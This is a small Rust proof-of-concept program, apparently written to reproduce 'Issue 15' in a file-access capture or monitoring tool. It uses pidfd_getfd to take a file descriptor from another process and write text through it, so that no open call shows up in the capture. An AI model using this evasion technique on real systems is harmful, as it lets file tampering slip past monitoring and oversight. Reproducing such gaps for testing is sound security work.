//! Issue 15 attack: write a file through a descriptor taken from another process with
//! `pidfd_getfd` (no open in the capture; needs ptrace rights over that process).
//!
//! `attack_pidfd_write PID FD TEXT`: duplicates descriptor FD of process PID and appends TEXT.
fn main() {
    let args: Vec<String> = std::env::args().collect();
    assert!(args.len() == 4, "usage: attack_pidfd_write PID FD TEXT");
    let pid: i32 = args[1].parse().unwrap();
    let fd: i32 = args[2].parse().unwrap();
    // SAFETY: plain syscalls.
    let pidfd = unsafe { libc::syscall(libc::SYS_pidfd_open, pid, 0) } as i32;
    assert!(
        pidfd >= 0,
        "pidfd_open: {}",
        std::io::Error::last_os_error()
    );
    let mine = unsafe { libc::syscall(libc::SYS_pidfd_getfd, pidfd, fd, 0) } as i32;
    assert!(
        mine >= 0,
        "pidfd_getfd: {}",
        std::io::Error::last_os_error()
    );
    let text = format!("{}\n", args[3]);
    let n = unsafe { libc::write(mine, text.as_ptr().cast(), text.len()) };
    assert_eq!(
        n as usize,
        text.len(),
        "write: {}",
        std::io::Error::last_os_error()
    );
    println!("wrote {n} bytes through descriptor {fd} of pid {pid}");
}
